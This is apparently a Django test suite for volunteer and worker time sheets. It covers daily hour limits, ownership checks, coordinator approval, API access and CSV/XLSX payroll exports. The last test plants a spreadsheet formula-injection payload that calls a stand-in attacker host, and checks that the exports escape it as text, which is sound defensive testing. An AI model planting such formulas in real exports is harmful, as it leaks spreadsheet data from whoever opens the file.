"""Time sheets: hours per day, at most 24, only one's own, approved by a coordinator, exported for payroll."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone
from openpyxl import load_workbook

from tests.conftest import Cast
from veerkracht.activities.models import Activity
from veerkracht.team.models import TimeSheet
from veerkracht.team.services import contract_set
from veerkracht.team.timesheets import Entry, time_entry_add, time_sheet_review, time_sheet_save

# Days, weeks and months of hours: also run at every awkward moment (tests/clock.py).
pytestmark = pytest.mark.clock


@pytest.fixture
def walk(cast: Cast) -> Activity:
    """A neighbourhood walk yesterday, with the basisbaan worker helping."""
    starts = timezone.now() - timedelta(days=1)
    activity = Activity.objects.create(
        organisation=cast.organisation,
        title="Buurtwandeling",
        kind="walk",
        online_link="https://example.org/route",
        starts_at=starts,
        ends_at=starts + timedelta(hours=2),
        organiser=cast.professional,
    )
    activity.helpers.add(cast.basisbaan)
    return activity


def _day() -> date:
    return timezone.localdate() - timedelta(days=1)


def test_a_basisbaan_worker_fills_in_a_day_and_a_coordinator_approves_it(cast: Cast, walk):
    sheet = time_sheet_save(
        by=cast.basisbaan,
        day=_day(),
        entries=[
            Entry(kind="activity", minutes=120, activity_id=walk.pk),
            Entry(kind="outreach", minutes=90, description="Portiekgesprekken Esdoornlaan"),
        ],
    )
    assert (sheet.status, sum(entry.minutes for entry in sheet.entries.all())) == ("submitted", 210)
    time_sheet_review(by=cast.coordinator, sheet_id=sheet.pk, approve=True)
    sheet.refresh_from_db()
    assert (sheet.status, sheet.reviewed_by) == ("approved", cast.coordinator)
    with pytest.raises(ValidationError) as locked:
        time_entry_add(by=cast.basisbaan, day=_day(), entry=Entry(kind="other", minutes=30, description="Opruimen"))
    assert "day" in locked.value.message_dict


def test_more_than_24_hours_on_a_day_is_refused_and_nothing_is_lost(cast: Cast):
    time_entry_add(by=cast.basisbaan, day=_day(), entry=Entry(kind="other", minutes=20 * 60, description="Lang"))
    with pytest.raises(ValidationError) as refused:
        time_entry_add(by=cast.basisbaan, day=_day(), entry=Entry(kind="other", minutes=5 * 60, description="Te veel"))
    assert "entries" in refused.value.message_dict
    assert [entry.minutes for entry in TimeSheet.objects.get().entries.all()] == [1200]


def test_a_time_sheet_for_another_worker_is_refused(cast: Cast):
    with pytest.raises(ValidationError) as refused:
        time_sheet_save(
            by=cast.basisbaan,
            day=_day(),
            entries=[Entry(kind="other", minutes=60, description="x")],
            worker_id=cast.volunteer.pk,
        )
    assert "worker_id" in refused.value.message_dict


def test_hours_only_for_ones_own_activities_and_not_for_tomorrow(cast: Cast, walk):
    with pytest.raises(ValidationError) as not_theirs:
        time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="activity", minutes=60, activity_id=walk.pk))
    assert "activity_id" in not_theirs.value.message_dict
    tomorrow = timezone.localdate() + timedelta(days=1)
    with pytest.raises(ValidationError) as future:
        time_entry_add(by=cast.volunteer, day=tomorrow, entry=Entry(kind="other", minutes=60, description="x"))
    assert "day" in future.value.message_dict


def test_returning_a_day_needs_a_note_and_lets_the_worker_change_it(cast: Cast):
    sheet = time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="other", minutes=60, description="x"))
    with pytest.raises(ValidationError):
        time_sheet_review(by=cast.coordinator, sheet_id=sheet.pk, approve=False)
    time_sheet_review(by=cast.coordinator, sheet_id=sheet.pk, approve=False, note="Welke activiteit?")
    sheet = time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="other", minutes=30, description="y"))
    assert sheet.status == "submitted"


def test_the_api_keeps_ones_own_time_sheet(cast: Cast, api_as, walk):
    api = api_as("basisbaan")
    day = _day().isoformat()
    saved = api.post("/timesheets", {"day": day, "entries": [{"kind": "activity", "hours": 2, "activity_id": walk.pk}]})
    assert saved.status_code == 201, saved.content
    assert (saved.json()["hours"], saved.json()["status"]) == (2.0, "submitted")
    too_long = api.post(
        "/timesheets", {"day": day, "entries": [{"kind": "other", "hours": 13, "description": "a"}] * 2}
    )
    assert too_long.status_code == 422
    assert too_long.json()["detail"][0]["loc"] == ["body", "entries"]
    other = api.post(
        "/timesheets",
        {"day": day, "worker_id": cast.volunteer.pk, "entries": [{"kind": "other", "hours": 1, "description": "a"}]},
    )
    assert other.json()["detail"][0]["loc"] == ["body", "worker_id"]
    assert api.get("/timesheets").json()["count"] == 1
    assert api_as("volunteer").get("/timesheets").json()["count"] == 0
    coordinator = api_as("coordinator")
    assert coordinator.get("/timesheets", status="submitted").json()["count"] == 1
    approved = coordinator.post(f"/timesheets/{saved.json()['id']}/approve", {})
    assert approved.json()["status"] == "approved"
    assert api_as("outsider_coordinator").post(f"/timesheets/{saved.json()['id']}/approve", {}).status_code == 404


def test_the_month_overview_exports_approved_hours_to_csv_and_xlsx(cast: Cast, walk, client):
    contract_set(by=cast.coordinator, user_id=cast.basisbaan.pk, hours_per_week=Decimal("24"))
    sheet = time_sheet_save(
        by=cast.basisbaan, day=_day(), entries=[Entry(kind="activity", minutes=150, activity_id=walk.pk)]
    )
    time_sheet_review(by=cast.coordinator, sheet_id=sheet.pk, approve=True)
    time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="other", minutes=45, description="Flyers"))
    client.force_login(cast.coordinator)
    month = _day().strftime("%Y-%m")
    page = client.get(f"/uren/maand/?maand={month}").content.decode()
    assert cast.basisbaan.display_name in page
    rows = list(
        csv.reader(io.StringIO(client.get(f"/uren/maand.csv?maand={month}").content.decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][:3] == ["Medewerker", "Gebruikersnaam", "Dag"]
    assert [row[1] for row in rows[1:]] == [cast.basisbaan.username, cast.volunteer.username] or sorted(
        row[1] for row in rows[1:]
    ) == sorted([cast.basisbaan.username, cast.volunteer.username])
    basisbaan_line = next(row for row in rows if row[1] == cast.basisbaan.username)
    assert basisbaan_line[3:6] == ["Activiteit", "Buurtwandeling", "2,50"]
    book = load_workbook(io.BytesIO(client.get(f"/uren/maand.xlsx?maand={month}").content))
    assert book.sheetnames == ["Overzicht", "Uren"]
    summary = {row[1]: row for row in book["Overzicht"].iter_rows(min_row=2, values_only=True)}
    assert summary[cast.basisbaan.username][3] == 24
    assert summary[cast.basisbaan.username][5:7] == (2.5, 0)
    assert summary[cast.volunteer.username][5:7] == (0, 0.75)


def test_workers_fill_in_hours_on_their_own_page(cast: Cast, client, walk):
    client.force_login(cast.basisbaan)
    page = client.get("/mijn-werk/").content.decode()
    assert "Buurtwandeling" in page
    response = client.post(
        "/mijn-werk/uren/", {"day": _day().isoformat(), "kind": "activity", "activity": walk.pk, "minutes": 120}
    )
    assert response.status_code == 302
    assert TimeSheet.objects.get(worker=cast.basisbaan).entries.get().minutes == 120


def test_a_formula_in_a_description_or_name_is_text_in_both_payroll_exports(cast: Cast, client):
    attack = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
    cast.volunteer.first_name = "@SUM(1+1)"
    cast.volunteer.save()
    time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="other", minutes=45, description=attack))
    client.force_login(cast.coordinator)
    month = _day().strftime("%Y-%m")
    rows = list(csv.reader(io.StringIO(client.get(f"/uren/maand.csv?maand={month}").content.decode()), delimiter=";"))
    line = next(row for row in rows if row[1] == cast.volunteer.username)
    assert line[4] == "'" + attack
    assert line[0].startswith("'@SUM")
    assert line[5] == "0,75"  # an amount stays a number
    book = load_workbook(io.BytesIO(client.get(f"/uren/maand.xlsx?maand={month}").content))
    planted = [cell for sheet in book for row in sheet.iter_rows() for cell in row if str(cell.value)[:1] in "=@"]
    assert {cell.value for cell in planted} >= {attack}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in planted)
    hours = next(row for row in book["Uren"].iter_rows(values_only=True) if row[1] == cast.volunteer.username)
    assert hours[5] == 0.75
